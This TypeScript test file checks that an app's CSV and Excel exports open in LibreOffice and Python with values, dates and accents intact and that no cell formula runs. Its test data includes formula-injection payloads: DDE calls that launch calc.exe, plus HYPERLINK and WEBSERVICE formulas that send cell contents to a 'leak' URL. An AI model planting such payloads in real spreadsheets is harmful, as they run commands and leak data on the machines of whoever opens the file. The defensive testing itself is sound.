/** What programs of tables read in an export: LibreOffice and Python's csv, each skipped aloud where it is absent. */
import { execFileSync } from 'node:child_process';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { layoutOf, type Row } from '../../electron/engine/export/export-cells.ts';
import { csvHead, csvRows } from '../../electron/engine/export/export-csv.ts';
import { workbook } from '../../electron/engine/export/export-xlsx.ts';
import type { Actor } from '../../shared/domain.ts';
import { mostSheetRows } from '../../shared/export-columns.ts';
import type { Job } from '../../shared/schemas.ts';
import { startTestEngine, type TestEngine } from '../support/engine.ts';
import { type TemporaryFolder, temporaryFolder } from '../support/folder.ts';
import { unzipped } from '../support/unzip.ts';

let folder: TemporaryFolder;
beforeAll(async () => {
  folder = await temporaryFolder();
});
afterAll(() => folder?.remove());

const layout = layoutOf('deliveries', ['time_utc', 'time_local', 'guest', 'amount', 'detail', 'status'], 'Asia/Manila');
const at = Date.UTC(2024, 2, 15, 18, 30, 5);
const rows: readonly Row[] = [
  { time_utc: at, time_local: at, guest: 'María Ñúñez 🍧', amount: -6000.5, detail: '=1+1', status: 422 },
  { time_utc: at, time_local: at, guest: 'a "quoted", one', amount: 0, detail: 'line\nline & <tag>', status: null },
  { time_utc: at, time_local: at, guest: '  =HYPERLINK("x")', amount: 1e7, detail: '\u0000@SUM(A1)', status: 200 },
];

async function bytesOf(pages: readonly (readonly Row[])[]): Promise<Buffer> {
  const given = async function* () {
    yield* pages;
  };
  const chunks: Uint8Array[] = [];
  for await (const { bytes } of workbook(layout, given())) chunks.push(bytes);
  return Buffer.concat(chunks);
}

const isThere = (program: string): boolean => {
  try {
    execFileSync(program, ['--version'], { stdio: 'ignore', timeout: 60_000 });
    return true;
  } catch {
    console.warn(`skipped: ${program} is not on this machine`);
    return false;
  }
};
const office = isThere('soffice');
const python = isThere('python3');

/** As LibreOffice reads a file, saved as CSV: values as they are shown, formulas as what they came to. */
function readByOffice(file: string): string[][] {
  const input = file.endsWith('.csv') ? ['--infilter=CSV:44,34,76,1,,0,false,true'] : [];
  const profile = `-env:UserInstallation=file://${join(folder.path, 'office')}`;
  execFileSync(
    'soffice',
    [
      profile,
      '--headless',
      ...input,
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true',
      '--outdir',
      join(folder.path, 'read'),
      file,
    ],
    { stdio: 'ignore', timeout: 120_000 },
  );
  return parse(
    readFileSync(
      join(
        folder.path,
        'read',
        file
          .split('/')
          .at(-1)
          ?.replace(/\.\w+$/, '.csv') ?? '',
      ),
    ),
    {
      bom: true,
      relaxColumnCount: true,
    },
  ) as string[][];
}

describe('a workbook', () => {
  test('has its head frozen, and no more rows than a sheet', async () => {
    const sheet =
      unzipped(await bytesOf([rows]))
        .get('xl/worksheets/sheet1.xml')
        ?.toString('utf8') ?? '';
    expect(sheet).toContain('state="frozen"');
    expect(sheet).not.toContain('<f>');
    const page = Array.from({ length: 1024 }, () => ({ guest: 'x' }));
    const pages = async function* () {
      for (let sent = 0; sent <= mostSheetRows; sent += page.length) yield page;
    };
    const narrow = layoutOf('deliveries', ['guest'], 'UTC');
    const all = async () => {
      for await (const _ of workbook(narrow, pages()));
    };
    await expect(all()).rejects.toMatchObject({ says: { key: 'problem.export_sheet_full' } });
  }, 60_000);

  test.skipIf(!office)(
    'opens in LibreOffice with its values, dates and accents, and runs no formula',
    async () => {
      const file = join(folder.path, 'book.xlsx');
      writeFileSync(file, await bytesOf([rows.slice(0, 2), rows.slice(2)]));
      const [head, first, second, third] = readByOffice(file);
      expect(head).toEqual([...layout.columns]);
      expect(first).toEqual(['2024-03-15 18:30:05', '2024-03-16 02:30:05', 'María Ñúñez 🍧', '-6000.5', '=1+1', '422']);
      expect(second?.slice(2)).toEqual(['a "quoted", one', '0', 'line\nline & <tag>', '']);
      expect(third?.slice(2)).toEqual(['  =HYPERLINK("x")', '10000000', '\uFFFD@SUM(A1)', '200']);
    },
    180_000,
  );
});

describe('a CSV', () => {
  const text = `${csvHead(layout)}${csvRows(layout, rows)}`;

  test.skipIf(!office)(
    'opens in LibreOffice with its values, dates and accents, and runs no formula',
    () => {
      const file = join(folder.path, 'table.csv');
      writeFileSync(file, text);
      const [head, first, , third] = readByOffice(file);
      expect(head).toEqual([...layout.columns]);
      expect(first?.slice(1)).toEqual(['2024-03-16 02:30:05', 'María Ñúñez 🍧', '-6000.5', "'=1+1", '422']);
      expect(third?.[2]).toBe(`'  =HYPERLINK("x")`);
    },
    180_000,
  );

  test.skipIf(!python)("is read by Python's csv as what was written", () => {
    const file = join(folder.path, 'python.csv');
    writeFileSync(file, text);
    const script =
      'import csv,json,sys;print(json.dumps(list(csv.reader(open(sys.argv[1],encoding="utf-8-sig",newline="")))))';
    const read = JSON.parse(execFileSync('python3', ['-c', script, file], { encoding: 'utf8' })) as string[][];
    expect(read).toEqual(parse(text, { bom: true }));
    expect(read[1]?.slice(0, 3)).toEqual(['2024-03-15T18:30:05.000Z', '2024-03-16 02:30:05', 'María Ñúñez 🍧']);
  });
});

describe.skipIf(!office)('a full export of what strangers wrote', () => {
  const actor: Actor = { account: 'it', surface: 'command_line' };
  const guests = [
    ...['=1+1', '+1+1', '-1+1', '@SUM(1;1)', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1', '-2+3+cmd|" /C calc"!A0'],
    ...['=HYPERLINK("http://127.0.0.1:9/leak?"&A1;"click")', "=cmd|'/C calc'!A0", '=DDE("soffice";"x";"y")'],
    ...['=WEBSERVICE("http://127.0.0.1:9/leak")', 'María Ñúñez 🍧', '"quoted", <b>; \'x\'', 'TRUE'],
  ];
  /** A CSV has no kinds of cells: whoever opens it takes these for a number and a day. A workbook says that they are texts. */
  const likeNumbers = ['00123', '1/2'];
  const sent = [...guests, ...likeNumbers].map((guest, i) => ({
    booking_id: `bk_${i}`,
    guest_name: guest,
    room: `${guest} room`,
    total: -6000.5,
  }));
  let relay: TestEngine;

  beforeAll(async () => {
    relay = await startTestEngine({ dataFolder: join(folder.path, 'data') });
    const added = await relay.engine.call('sources.add', { name: 'Strangers' }, actor);
    if (!added.ok) throw new Error(added.error.message);
    for (const data of sent) {
      const { status } = await fetch(`${relay.engine.intakeAddress}/v1/events`, {
        method: 'POST',
        headers: { authorization: `Bearer ${added.value.token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ event: 'booking.created', timestamp: '2024-03-15T18:30:05Z', property_id: 'p', data }),
      });
      expect(status).toBe(202);
    }
  });
  afterAll(() => relay?.stop());

  test.each(['csv', 'xlsx'] as const)(
    'runs nothing in LibreOffice as %s, and comes with its values, dates and accents',
    async (format) => {
      const columns = ['guest', 'room', 'amount', 'event_timestamp', 'time_local', 'data'];
      const input = {
        what: 'events',
        format,
        file: null,
        columns,
        full: { reason: 'for the auditor' },
        confirmed: true,
      };
      const begun = await relay.engine.callUnparsed('export.start', input, actor);
      if (!begun.ok) throw new Error(begun.error.message);
      const { id } = begun.value as Job;
      let job = begun.value as Job;
      while (job.state !== 'done') {
        await new Promise((resolve) => setTimeout(resolve, 10));
        const now = await relay.engine.call('jobs.get', { id }, actor);
        if (now.ok) job = now.value;
      }
      const file = join(folder.path, `full.${format}`);
      copyFileSync(job.file ?? '', file);
      const [, ...read] = readByOffice(file);
      // A text that would be a formula stands behind an apostrophe in CSV; a workbook knows texts.
      const text = (cell = '') => (format === 'csv' ? cell.replace(/^'(?=\s*[=+\-@\t\r＝])/, '') : cell);
      const wanted = format === 'csv' ? sent.slice(0, guests.length) : sent;
      expect(read).toHaveLength(sent.length);
      const shown = read
        .toReversed()
        .slice(0, wanted.length)
        .map(([guest, room, amount, moment, , data]) => ({
          ...{ guest: text(guest), room: text(room), amount, moment, data: JSON.parse(data ?? '') as unknown },
        }));
      expect(shown).toEqual(
        wanted.map((data) => ({
          ...{ guest: data.guest_name.trim(), room: data.room.trim(), amount: '-6000.5', data },
          moment: expect.stringContaining('2024-03-15'),
        })),
      );
      for (const [, , , , local] of read) expect(local).toMatch(/^20\d\d-\d\d-\d\d \d\d:\d\d:\d\d$/);
    },
    180_000,
  );
});
